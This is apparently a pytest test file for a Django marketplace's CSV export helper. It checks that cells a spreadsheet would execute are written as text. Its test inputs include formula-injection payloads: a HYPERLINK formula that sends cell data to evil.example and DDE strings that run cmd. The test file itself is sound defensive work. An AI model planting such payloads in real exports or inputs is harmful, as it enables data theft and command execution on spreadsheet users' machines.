"""Every CSV we write goes through marketplace.csv_export, which no spreadsheet can be made to run."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings

from marketplace.csv_export import safe_cell, writer

BASE_DIR = Path(settings.BASE_DIR).resolve()
SHARED_MODULE = BASE_DIR / "marketplace" / "csv_export.py"
RAW_WRITER = re.compile(
    r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b"
)


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Pay")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("plain", ["Workshop", "PK36SCBL0000001123456702", "03001234567", "", "O'Neil - Ltd"])
def test_plain_text_is_written_unchanged(plain):
    assert safe_cell(plain) == plain


def test_numbers_are_written_as_numbers_even_when_negative():
    assert safe_cell(Decimal("-5.00")) == Decimal("-5.00")
    assert safe_cell(-3) == -3


def test_the_writer_neutralises_every_cell_and_round_trips_through_a_csv_reader():
    out = io.StringIO()
    rows = [["name", "amount"], ["=1+1", Decimal("12.50")], ['a "quoted", name', None]]

    writer(out).writerows(rows)

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "amount"],
        ["'=1+1", "12.50"],
        ['a "quoted", name', ""],
    ]


def test_no_code_of_ours_writes_csv_but_through_the_shared_module():
    offenders = []
    for path in BASE_DIR.rglob("*.py"):
        relative = path.relative_to(BASE_DIR)
        if relative.parts[0] in {".venv", "tests", "node_modules"} or path == SHARED_MODULE:
            continue
        for line_no, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if RAW_WRITER.search(line):
                offenders.append(f"{relative}:{line_no}: {line.strip()}")
    assert offenders == [], "write CSV with marketplace.csv_export.writer:\n" + "\n".join(offenders)
